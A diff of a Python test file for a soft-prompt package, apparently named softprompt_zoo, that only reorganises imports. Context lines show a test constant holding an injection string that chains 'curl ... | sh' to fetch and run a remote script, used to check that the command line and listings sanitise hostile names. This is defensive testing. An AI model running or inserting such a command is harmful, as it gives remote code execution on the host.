@@ -10,8 +10,9 @@ from safetensors.torch import load_file, save_file
 from typer.testing import CliRunner
 
 import softprompt_zoo as zoo
-from softprompt_zoo import discovery, errors
+from softprompt_zoo import errors
 from softprompt_zoo.cli.command import command
+from softprompt_zoo.registry import discovery
 from softprompt_zoo.testing import tiny_model
 
 EVIL = "evil; curl http://x | sh #"
@@ -116,7 +117,7 @@ def test_the_command_line_prints_no_control_characters_of_other_errors(kind):
 
 def test_listings_print_no_control_characters(monkeypatch):
     from softprompt_zoo.cli import app
-    from softprompt_zoo.registry import registry
+    from softprompt_zoo.registry.registry import registry
 
     own = next(iter(registry.candidates().values()))
     strange = dataclasses.replace(own, name=f"x{ESCAPE}", summary=ESCAPE, aliases=(ESCAPE,))
